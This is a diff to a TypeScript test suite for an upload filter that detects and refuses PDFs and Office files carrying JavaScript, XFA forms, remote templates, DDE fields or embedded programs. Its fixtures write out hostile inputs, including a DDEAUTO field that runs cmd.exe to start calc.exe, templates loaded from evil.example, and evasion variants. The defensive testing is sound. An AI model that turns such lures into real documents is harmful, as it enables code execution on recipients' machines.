@@ -146,18 +146,41 @@ describe("sniffing: the content decides", () => {
 
   it.each([
     ["a PDF running JavaScript when opened (its name escaped)", sample.pdfJavaScript, "含有脚本（JavaScript）的 PDF"],
-    ["a PDF's JavaScript in a compressed object stream", sample.pdfJavaScriptInObjectStream, "含有脚本（JavaScript）的 PDF"],
+    ["a PDF's JavaScript in a compressed object stream", () => sample.pdfJavaScriptInObjectStream(), "含有脚本（JavaScript）的 PDF"],
+    [
+      "a PDF's JavaScript in a compressed object starting within another's string",
+      () => sample.pdfJavaScriptInObjectStream(true),
+      "含有脚本（JavaScript）的 PDF",
+    ],
+    ["a PDF's JavaScript between strings spelling stream and endstream", sample.pdfJavaScriptBetweenStrings, "含有脚本（JavaScript）的 PDF"],
+    ["a PDF's JavaScript after an endstream that a stream's /Length covers", () => sample.pdfJavaScriptUnderLength(true), "含有脚本（JavaScript）的 PDF"],
+    ["a PDF's JavaScript in an object within a stream's data", () => sample.pdfJavaScriptUnderLength(false), "含有脚本（JavaScript）的 PDF"],
+    ["a PDF's JavaScript in an object within a string", sample.pdfJavaScriptInString, "含有脚本（JavaScript）的 PDF"],
     ["a PDF launching a program", sample.pdfLaunch, "含有启动程序的动作（Launch）的 PDF"],
-    ["a PDF with an embedded file", sample.pdfEmbeddedFile, "含有内嵌的文件的 PDF"],
+    ["an XFA form (its scripts not read)", sample.pdfXfa, "含有动态表单（XFA，其中的脚本无法检查）的 PDF"],
   ] as const)("%s is refused, saying what it carries", (_what, make, says) => {
     const err = refusal(() => sniffAttachment(make(), "整改报告.pdf"));
-    expect(err.zh).toBe(
-      `附件“整改报告.pdf”是${says}，不能上传：打开时可能运行程序，请用“打印为 PDF”另存一份后上传，需要的文件另作附件上传。可以上传的附件：${ACCEPTED_ATTACHMENTS}`,
+    expect(err.zh).toBe(`附件“整改报告.pdf”是${says}，不能上传：打开时可能运行程序，请用“打印为 PDF”另存一份后上传。可以上传的附件：${ACCEPTED_ATTACHMENTS}`);
+  });
+
+  it("a PDF with an embedded file is refused, saying to attach the file on its own", () => {
+    expect(refusal(() => sniffAttachment(sample.pdfEmbeddedFile(), "整改报告.pdf")).zh).toBe(
+      `附件“整改报告.pdf”是含有内嵌的文件的 PDF，不能上传：打开时可能运行程序，请用“打印为 PDF”另存一份后上传，需要的文件另作附件上传。可以上传的附件：${ACCEPTED_ATTACHMENTS}`,
     );
   });
 
   it("a PDF whose image bytes happen to spell /JS or /Launch is a PDF", () => {
     expect(sniffAttachment(sample.pdfImageSpellingJs(), "扫描件.pdf").kind).toBe("pdf");
+  });
+
+  it("a PDF naming /JavaScript or /Launch in its strings (a link to MDN, a title, a page's text) is a PDF", () => {
+    expect(sniffAttachment(sample.pdfMentioningJavaScript(), "说明.pdf").kind).toBe("pdf");
+  });
+
+  it.each(["hex", "predictor"] as const)("a PDF whose object stream is encoded otherwise than deflated (%s) is refused as unread", (how) => {
+    expect(refusal(() => sniffAttachment(sample.pdfObjectStreamEncoded(how), "x.pdf")).zh).toContain(
+      "是以少见方式压缩了内部对象（对象流用了 FlateDecode 以外的编码或预测器）、无法检查其中有无脚本的 PDF，不能上传：请用“打印为 PDF”另存一份后上传。",
+    );
   });
 
   it("a PDF of more object streams than are read (each a zlib set-up: 130,000 took 16 s) or one too large to inflate is refused, not let through unread", () => {
@@ -175,9 +198,90 @@ describe("sniffing: the content decides", () => {
   });
 
   it.each([
-    ["a remote template (loaded, with its macros, when opened)", sample.docxRemoteTemplate, "说明.docx", "打开时会从网络载入模板或对象的 Office 文档"],
-    ["a program embedded", () => sample.docxEmbedding(sample.exe()), "说明.docx", "嵌入了程序或文件包的 Office 文档"],
-    ["a file package embedded (any file)", () => sample.docxEmbedding(sample.ole(["\u0001Ole10Native", "\u0001CompObj"])), "说明.docx", "嵌入了程序或文件包"],
+    [
+      "a remote template (loaded, with its macros, when opened)",
+      sample.docxRemoteTemplate,
+      "说明.docx",
+      "打开时会从网络地址“http://evil.example/t.dotm”载入模板的 Office 文档",
+    ],
+    [
+      "a remote template written with single quotes, a prefix and a character reference",
+      () =>
+        sample.docxWithRelationship(
+          "word/_rels/settings.xml.rels",
+          `<r:Relationship Id='rId1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='&#69;xternal'/>`,
+        ),
+      "说明.docx",
+      "打开时会从网络地址“https://evil.example/t.dotm”载入模板",
+    ],
+    [
+      "a template on another PC (a UNC path)",
+      () => sample.docxTemplate("\\\\fileserver\\share\\t.dotm"),
+      "说明.docx",
+      "打开时会从网络地址“\\\\fileserver\\share\\t.dotm”载入模板",
+    ],
+    ["a template at file://host/", () => sample.docxTemplate("file://fileserver/share/t.dotm"), "说明.docx", "载入模板"],
+    ["a template at file:////host/", () => sample.docxTemplate("file:////fileserver/share/t.dotm"), "说明.docx", "载入模板"],
+    [
+      "an object linked from the network",
+      () => sample.docxLinkedObject("http://evil.example/a.xlsx"),
+      "说明.docx",
+      "载入链接的对象的 Office 文档，不能上传：请把链接的对象改为嵌入",
+    ],
+    [
+      "a DDEAUTO field (w:fldSimple)",
+      () => sample.docxBody(`<w:p><w:fldSimple w:instr='DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'/></w:p>`),
+      "说明.docx",
+      "含有 DDE 域（打开时可能运行其他程序）的 Office 文档",
+    ],
+    [
+      "a DDE field split over runs (w:instrText)",
+      () =>
+        sample.docxBody(
+          `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> D</w:instrText></w:r><w:r><w:instrText>DE "cmd" "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
+        ),
+      "说明.docx",
+      "含有 DDE 域",
+    ],
+    ["a DDE link in a workbook", sample.xlsxDdeLink, "明细.xlsx", "含有 DDE 域"],
+    ["a program embedded", () => sample.docxEmbedding(sample.exe()), "说明.docx", "嵌入了程序的 Office 文档"],
+    [
+      "a program packaged",
+      () => sample.docxEmbedding(sample.olePackage("setup.exe", sample.exe())),
+      "说明.docx",
+      "嵌入了程序或脚本（setup.exe）的 Office 文档",
+    ],
+    ["a script packaged", () => sample.docxEmbedding(sample.olePackage("run.js", Buffer.from("WScript.Shell"))), "说明.docx", "嵌入了程序或脚本（run.js）"],
+    [
+      "a program packaged under another name",
+      () => sample.docxEmbedding(sample.olePackage("说明.txt", sample.exe())),
+      "说明.docx",
+      "是嵌入了程序的 Office 文档",
+    ],
+    [
+      "a program packaged, named so in UTF-16 only",
+      () =>
+        sample.docxEmbedding(
+          sample.ole(
+            ["\u0001Ole10Native"],
+            Buffer.concat([
+              Buffer.alloc(64),
+              sample.ole10Native("a.txt", Buffer.from("x")),
+              sample.ole10Native("b.txt", Buffer.from("x")).subarray(0, 4),
+              Buffer.from([7, 0, 0, 0]),
+              Buffer.from("cmd.bat", "utf16le"),
+            ]),
+          ),
+        ),
+      "说明.docx",
+      "嵌入了程序或脚本（cmd.bat）",
+    ],
+    [
+      "a legacy document with a program packaged",
+      () => sample.ole(["WordDocument", "ObjectPool", "\u0001Ole10Native"], sample.ole10Native("a.vbs", Buffer.from("x"))),
+      "说明.doc",
+      "嵌入了程序或脚本（a.vbs）",
+    ],
     ["an embedded document with macros", () => sample.docxEmbedding(sample.ole(["WordDocument", "Macros", "VBA"])), "说明.docx", "含有宏（VBA）"],
     ["a VBA project under another name", sample.docxRenamedVba, "说明.docx", "含有宏（VBA）的 Office 文档"],
     ["an Excel 4.0 macro sheet", sample.xlsxMacroSheet, "明细.xlsx", "含有 Excel 4.0 宏表的表格"],
@@ -197,6 +301,24 @@ describe("sniffing: the content decides", () => {
 
   it("real documents are taken: links, a chart's workbook, workbooks as Excel saves them, the bulletin as Word and PDF", async () => {
     expect(sniffAttachment(await sample.docxWithLinkAndChart(), "说明.docx").kind).toBe("docx");
+    // made from a 公文模板 on the PC, a table linked from a workbook on it (粘贴链接), a template beside it
+    for (const target of [
+      "file:///C:\\Users\\admin\\AppData\\Roaming\\Microsoft\\Templates\\公文模板.dotx",
+      "C:\\模板\\公文.dotx",
+      "file://localhost/C:/t.dotx",
+      "公文.dotx",
+    ]) {
+      expect(sniffAttachment(await sample.docxTemplate(target), "说明.docx").kind, target).toBe("docx");
+    }
+    expect(sniffAttachment(await sample.docxLinkedObject("file:///D:\\统计\\2018年11月.xlsx"), "说明.docx").kind).toBe("docx");
+    // fields that start nothing; a PDF, a picture inserted as an object (a file package), in a .docx and a .doc
+    const fields = `<w:p><w:fldSimple w:instr=" PAGE "/><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK "http://www.huantai.gov.cn/dde" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
+    expect(sniffAttachment(await sample.docxBody(fields), "说明.docx").kind).toBe("docx");
+    expect(sniffAttachment(await sample.docxEmbedding(sample.olePackage("report.pdf", sample.pdf())), "说明.docx").kind).toBe("docx");
+    expect(sniffAttachment(await sample.docxEmbedding(sample.olePackage("photo.png", sample.png())), "说明.docx").kind).toBe("docx");
+    expect(
+      sniffAttachment(sample.ole(["WordDocument", "ObjectPool", "\u0001Ole10Native"], sample.ole10Native("report.pdf", sample.pdf())), "说明.doc").kind,
+    ).toBe("doc");
     expect(sniffAttachment(sample.xlsWithSheets(sample.boundSheet(0, "Sheet1"), sample.boundSheet(2, "Chart1")), "明细.xls").kind).toBe("xls");
     const fixtures = new URL("../../data/test/fixtures/xls/", import.meta.url);
     for (const name of ["features.xls", "features.xlsx", "orders-2017-10.xls", "orders-2017-10.xlsx"]) {
